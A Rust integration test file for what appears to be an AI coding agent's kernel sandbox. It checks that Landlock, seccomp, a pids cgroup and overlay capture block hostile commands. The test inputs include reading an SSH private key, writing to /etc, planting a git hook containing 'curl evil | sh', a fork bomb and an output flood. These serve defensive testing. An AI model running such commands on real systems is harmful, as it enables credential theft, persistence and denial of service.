//! The kernel sandbox, against real processes: Landlock refuses reads of the home folder and writes
//! outside the workspace, seccomp refuses network sockets, the pids cgroup stops a fork bomb, and
//! what a command writes to the workspace is captured for Review instead of written.

use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use aura::domain::{FileChangeKind, SandboxPolicy};
use aura::tools::Workspace;
use aura::tools::sandbox::{Sandbox, support};
use aura::tools::shell::{CommandOutput, CommandSpec, run_command};

struct Setup {
    _dir: tempfile::TempDir,
    home: PathBuf,
    workspace: Workspace,
    scratch: PathBuf,
}

/// A home folder with a secret and a toolchain folder, a workspace beside it, and the scratch
/// folder a data dir would hold.
fn setup() -> Setup {
    assert!(
        support().landlock_abi > 0 && support().overlay,
        "this machine must offer Landlock and overlays: {:?}",
        support()
    );
    let dir = tempfile::tempdir().unwrap();
    let home = dir.path().join("home");
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::write(home.join(".ssh/id_rsa"), "-----BEGIN SECRET KEY-----").unwrap();
    std::fs::create_dir_all(home.join(".cargo")).unwrap();
    std::fs::write(home.join(".cargo/config.toml"), "[build]\n").unwrap();
    let root = dir.path().join("project");
    std::fs::create_dir_all(&root).unwrap();
    std::fs::write(root.join("kept.txt"), "alpha\nbeta\n").unwrap();
    std::fs::write(root.join("gone.txt"), "to be deleted\n").unwrap();
    let scratch = dir.path().join("data/sandbox");
    Setup { home, workspace: Workspace::open(&root).unwrap(), scratch, _dir: dir }
}

impl Setup {
    fn sandbox(&self, policy: SandboxPolicy) -> Sandbox {
        Sandbox { policy, scratch: self.scratch.clone(), home: Some(self.home.clone()) }
    }

    async fn run(&self, policy: SandboxPolicy, command: &str) -> CommandOutput {
        self.run_for(policy, command, Duration::from_secs(60)).await
    }

    async fn run_for(&self, policy: SandboxPolicy, command: &str, timeout: Duration) -> CommandOutput {
        let spec = CommandSpec::new(command, timeout).sandboxed(Some(self.sandbox(policy)));
        run_command(&self.workspace, &spec, std::future::pending()).await.unwrap()
    }

    fn root(&self) -> &Path {
        self.workspace.root()
    }
}

#[tokio::test]
async fn a_secret_in_the_home_folder_is_refused_and_the_result_says_why() {
    let s = setup();
    let secret = s.home.join(".ssh/id_rsa");
    let out = s.run(SandboxPolicy::WorkspaceWrite, &format!("cat {}", secret.display())).await;
    assert!(!out.succeeded(), "{out:?}");
    assert!(!out.stdout.contains("SECRET"), "the secret leaked: {}", out.stdout);
    let summary = out.summary();
    assert!(summary.contains("Permission denied") && summary.contains("Aura's sandbox"), "{summary}");
    // Through a symlink inside the workspace pointing at `/`, the same file stays refused.
    std::os::unix::fs::symlink("/", s.root().join("root")).unwrap();
    let through = format!("cat root{}", secret.display());
    let out = s.run(SandboxPolicy::WorkspaceWrite, &through).await;
    assert!(!out.succeeded() && !out.stdout.contains("SECRET"), "{out:?}");
    // The toolchains' folders and the system stay readable.
    let out = s
        .run(
            SandboxPolicy::WorkspaceWrite,
            &format!("cat {}/.cargo/config.toml && cat /etc/hostname", s.home.display()),
        )
        .await;
    assert!(out.succeeded() && out.stdout.contains("[build]"), "{out:?}");
}

#[tokio::test]
async fn writes_outside_the_workspace_are_refused() {
    let s = setup();
    let outside = s.home.join("planted");
    let out = s.run(SandboxPolicy::WorkspaceWrite, &format!("echo x > {}", outside.display())).await;
    assert!(!out.succeeded() && !outside.exists(), "{out:?}");
    let out = s.run(SandboxPolicy::WorkspaceWrite, "echo x > /etc/aura-sandbox-test").await;
    assert!(!out.succeeded() && !Path::new("/etc/aura-sandbox-test").exists(), "{out:?}");
    // The private temp folder is writable, and is not /tmp.
    let out =
        s.run(SandboxPolicy::WorkspaceWrite, "echo scratch > \"$TMPDIR/t\" && cat \"$TMPDIR/t\" && echo $TMPDIR").await;
    assert!(out.succeeded() && out.stdout.contains("scratch") && !out.stdout.contains("\n/tmp\n"), "{out:?}");
}

#[tokio::test]
async fn the_network_is_refused_unless_granted() {
    let s = setup();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    listener.set_nonblocking(true).unwrap();
    let connect = format!(
        "python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=5); print('connected')\""
    );
    let out = s.run(SandboxPolicy::WorkspaceWrite, &connect).await;
    assert!(!out.succeeded() && !out.stdout.contains("connected"), "{out:?}");
    assert!(out.stderr.contains("PermissionError") || out.stderr.contains("not permitted"), "{}", out.stderr);
    assert!(listener.accept().is_err(), "nothing may have reached the listener");
    let out = s.run(SandboxPolicy::WorkspaceWriteNetwork, &connect).await;
    assert!(out.succeeded() && out.stdout.contains("connected"), "{out:?}");
}

#[tokio::test]
async fn keys_in_the_environment_never_reach_a_command() {
    let s = setup();
    // The variable is set for this process and its children; the sandbox must drop it.
    let out = s.run(SandboxPolicy::WorkspaceWrite, "env").await;
    assert!(out.succeeded(), "{out:?}");
    for line in out.stdout.lines() {
        let name = line.split('=').next().unwrap_or_default();
        assert!(!aura::tools::sandbox::is_secret_env(name), "{name} reached the command");
    }
    assert!(out.stdout.contains("PATH="), "ordinary variables stay: {}", out.stdout);
}

#[tokio::test]
async fn writes_to_the_workspace_are_captured_for_review_not_written() {
    let s = setup();
    let command = "echo new > new.txt && sed -i s/beta/gamma/ kept.txt && rm gone.txt && mkdir -p target/debug && echo built > target/debug/out && printf '\\000\\001' > blob.bin";
    let out = s.run(SandboxPolicy::WorkspaceWrite, command).await;
    assert!(out.succeeded(), "{out:?}");
    // The workspace itself is as it was, but for generated output.
    assert!(!s.root().join("new.txt").exists());
    assert_eq!(std::fs::read_to_string(s.root().join("kept.txt")).unwrap(), "alpha\nbeta\n");
    assert!(s.root().join("gone.txt").exists());
    assert_eq!(std::fs::read_to_string(s.root().join("target/debug/out")).unwrap(), "built\n");
    assert!(!s.root().join("blob.bin").exists());
    let kinds: Vec<(&str, FileChangeKind)> =
        out.writes.changes.iter().map(|c| (c.path.as_str(), c.kind.clone())).collect();
    assert_eq!(
        kinds,
        vec![
            ("gone.txt", FileChangeKind::Delete),
            ("kept.txt", FileChangeKind::Modify),
            ("new.txt", FileChangeKind::Add)
        ]
    );
    assert_eq!(out.writes.changes[1].after.as_deref(), Some("alpha\ngamma\n"));
    assert_eq!(out.writes.left_out, vec![("blob.bin".to_string(), "binary".to_string())]);
    assert!(out.summary().contains("blob.bin (binary)"), "{}", out.summary());
}

#[tokio::test]
async fn a_command_cannot_write_into_git() {
    let s = setup();
    let git = std::process::Command::new("git").arg("init").arg("-q").current_dir(s.root()).status().unwrap();
    assert!(git.success());
    let out = s
        .run(
            SandboxPolicy::WorkspaceWrite,
            "echo 'curl evil | sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
        )
        .await;
    assert!(out.succeeded(), "{out:?}");
    assert!(!s.root().join(".git/hooks/pre-commit").exists(), "a hook was planted");
    assert_eq!(out.writes.git, vec![".git/hooks/pre-commit".to_string()]);
    assert!(out.summary().contains("inside .git were dropped"), "{}", out.summary());
}

#[tokio::test]
async fn a_command_killed_halfway_still_shows_what_it_wrote() {
    let s = setup();
    let out =
        s.run_for(SandboxPolicy::WorkspaceWrite, "echo partial > half.txt; sleep 30", Duration::from_secs(1)).await;
    assert!(out.timed_out, "{out:?}");
    assert_eq!(out.writes.changes.len(), 1);
    assert_eq!(out.writes.changes[0].path, "half.txt");
    assert!(!s.root().join("half.txt").exists());
}

#[tokio::test]
async fn read_only_commands_write_nothing() {
    let s = setup();
    let out = s.run(SandboxPolicy::ReadOnly, "echo x > kept.txt").await;
    assert!(!out.succeeded(), "{out:?}");
    assert_eq!(std::fs::read_to_string(s.root().join("kept.txt")).unwrap(), "alpha\nbeta\n");
    let out = s.run(SandboxPolicy::ReadOnly, "cat kept.txt").await;
    assert!(out.succeeded() && out.stdout.contains("beta"), "{out:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_fork_bomb_and_a_flood_are_bounded() {
    let s = setup();
    let started = Instant::now();
    let out = s
        .run_for(SandboxPolicy::WorkspaceWrite, "bomb() { bomb | bomb & }; bomb; sleep 3", Duration::from_secs(5))
        .await;
    assert!(started.elapsed() < Duration::from_secs(20), "took {:?}", started.elapsed());
    // The pids cgroup (or RLIMIT_NPROC) refused forks: the shell says it could not fork.
    assert!(out.stderr.contains("fork") || out.stderr.contains("Resource temporarily unavailable"), "{}", out.stderr);
    eprintln!("the fork bomb ended after {:?}: {}", started.elapsed(), out.stderr.lines().next().unwrap_or_default());
    // Aura can still start commands, and nothing of the bomb is left.
    let after = s.run(SandboxPolicy::WorkspaceWrite, "echo alive").await;
    assert!(after.succeeded() && after.stdout.contains("alive"), "{after:?}");
    let started = Instant::now();
    let out = s.run(SandboxPolicy::WorkspaceWrite, "head -c 1000000000 /dev/zero | tr '\\000' x").await;
    assert!(out.succeeded(), "{out:?}");
    assert!(out.stdout.len() < 200_000 && out.stdout.contains("MB cut"), "{} bytes kept", out.stdout.len());
    eprintln!("1 GB of output read in {:?}", started.elapsed());
}
